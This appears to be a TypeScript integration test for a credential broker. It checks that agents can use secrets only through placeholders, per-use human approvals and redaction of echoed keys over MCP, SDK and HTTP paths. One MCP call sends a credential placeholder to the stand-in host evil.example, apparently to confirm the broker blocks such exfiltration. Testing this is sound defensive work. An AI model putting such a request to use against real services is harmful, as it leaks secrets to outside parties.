import { Chancery, PLACEHOLDER } from '@chancery/client/chancery.js';
import OpenAI from 'openai';
import { expectStatus } from '../support/app.js';
import { eventually } from '../support/eventually.js';
import { connectMcp } from '../support/mcp-client.js';
import type { AskedUse, SeenUse, UseDoor } from '../support/use-door.js';
import { WebhookReceiver } from '../support/webhook-receiver.js';
import { at, type CanaryCast, reason } from './canary-cast.js';

/** What is told of uses that people looked at. */
export const TOLD = ['approval.requested', 'approval.decided', 'credential.redacted', 'brake.activated'];
const MIRRORED = {
  method: 'POST',
  url: at('/mirror?k={{CREDENTIAL}}'),
  headers: { authorization: 'Bearer {{CREDENTIAL}}', 'content-type': 'application/json' },
  body: '{"k":"{{CREDENTIAL}}"}',
} satisfies AskedUse;

/** Everybody else who comes near a secret: a person who approves, an assistant, an SDK, whoever is told by webhook. */
export class CanaryGuests {
  constructor(private readonly cast: CanaryCast) {}

  /** What the webhook is told of is in the outbox when this ends. */
  async run(doors: readonly UseDoor[]): Promise<WebhookReceiver> {
    const { fleet, tenant } = this.cast;
    const { upstream } = fleet;
    upstream.on('/mirror', ({ headers, url = '' }, response) =>
      response.setHeader('x-echo', url).end(JSON.stringify([headers, url, upstream.received.at(-1)?.body])),
    );
    await this.#byMcp();
    await this.#bySdk();
    const hook = await WebhookReceiver.register(tenant, '/hook', { upstream, events: TOLD });
    for (const door of doors) await this.#approved(door);
    await this.#held();
    const pulled = await tenant.admin<{ id: string }>('POST', '/v1/brakes', { scope: 'tenant', reason });
    expectStatus(await tenant.human('POST', `/v1/brakes/${pulled.body.id}/clear`, { reason }), 200);
    return hook;
  }

  /** Asked for, looked at, approved, made once, and asked for once more with the same approval; another is refused. */
  async #approved(door: UseDoor): Promise<void> {
    const { cast } = this;
    const name = `guarded_${door.name}`;
    await cast.store(name, { value: cast.secret(), approval: 'each_use' });
    const id = approvalOf(await cast.use(door, name, MIRRORED));
    await this.#decide(id, 'approve');
    const used = await cast.use(door, name, MIRRORED, { approvalId: id });
    if (used.code !== null || !used.body.includes('[redacted]')) throw new Error(`not mirrored: ${used.code}`);
    const again = await cast.use(door, name, MIRRORED, { approvalId: id });
    if (again.code !== 'approval_used') throw new Error(`used twice: ${again.status} ${again.code}`);
    await this.#decide(approvalOf(await cast.use(door, name, MIRRORED)), 'refuse');
  }

  /** The request waits inside the server while a person decides. */
  async #held(): Promise<void> {
    const { agent, approver } = this.cast;
    const ask = { purpose: 'test', request: MIRRORED };
    const held = agent.call('POST', '/v1/credentials/guarded_execute/execute', { prefer: 'wait=60' }, ask);
    const pending = await eventually(
      () => approver<{ data: { id: string }[] }>('GET', '/v1/approvals?state=pending'),
      ({ body }) => body.data.length > 0,
    );
    await this.#decide(String(pending.body.data[0]?.id), 'approve');
    const answer = await held;
    expectStatus(answer, 200);
    this.cast.note(answer);
  }

  async #decide(id: string, verb: 'approve' | 'refuse'): Promise<void> {
    const { cast } = this;
    for (const path of ['/v1/approvals', `/v1/approvals/${id}`]) cast.note(await cast.approver('GET', path));
    const decided = await cast.approver('POST', `/v1/approvals/${id}/${verb}`, { reason });
    expectStatus(decided, 200);
    cast.note(decided);
    cast.note(await cast.agent.call('GET', `/v1/approvals/${id}`));
  }

  async #byMcp(): Promise<void> {
    const { cast } = this;
    const client = await connectMcp(cast.agent);
    await cast.store('by_mcp', { value: cast.secret() });
    await cast.store('by_mcp_guarded', { value: cast.secret(), approval: 'each_use' });
    const call = async (name: string, input: Record<string, unknown>) => {
      const answer = await client.callTool({ name, arguments: input });
      cast.answers.push(JSON.stringify(answer));
      return answer.structuredContent as { approval?: { id: string }; body?: string };
    };
    const use = (credential: string, url = MIRRORED.url) =>
      call('use_credential', { credential, purpose: 'by MCP', request: { ...MIRRORED, url } });
    try {
      await call('list_credentials', {});
      const { body } = await use('by_mcp');
      if (body?.includes('[redacted]') !== true) throw new Error(`not mirrored: ${body}`);
      await use('by_mcp', 'https://evil.example/{{CREDENTIAL}}');
      const asked = await use('by_mcp_guarded');
      await call('check_approval', { approval_id: asked.approval?.id });
      await this.#decide(String(asked.approval?.id), 'refuse');
    } finally {
      await client.close();
    }
  }

  /** The official package over the client's `fetch`: the answer streams, and the key is in one of its pieces. */
  async #bySdk(): Promise<void> {
    const { cast } = this;
    await cast.store('by_sdk', { value: cast.secret() });
    cast.fleet.upstream.on('/v1/chat/completions', ({ headers }, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream', 'x-echo': headers.authorization });
      for (const content of ['Good ', String(headers.authorization), ' morning']) {
        const chunk = { id: '1', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content } }] };
        response.write(`data: ${JSON.stringify(chunk)}\n\n`);
      }
      response.end('data: [DONE]\n\n');
    });
    const { agent } = cast;
    const chancery = await Chancery.connect({ url: agent.base, agentId: agent.id, apiKey: agent.apiKey });
    const openai = new OpenAI({ apiKey: PLACEHOLDER, baseURL: at('/v1'), fetch: chancery.fetch('by_sdk') });
    try {
      const messages = [{ role: 'user' as const, content: 'What did he say?' }];
      const stream = await openai.chat.completions.create({ model: 'gpt-test', messages, stream: true });
      let text = '';
      for await (const { choices } of stream) text += choices[0]?.delta.content ?? '';
      if (text !== 'Good Bearer [redacted] morning') throw new Error(`not streamed: ${text}`);
      cast.answers.push(text);
    } finally {
      await chancery.close();
    }
  }
}

const approvalOf = ({ status, body }: SeenUse): string => {
  const { approval } = JSON.parse(body.toString()) as { approval?: { id: string } };
  if (status !== 202 || approval === undefined) throw new Error(`nobody is asked: ${status}`);
  return approval.id;
};
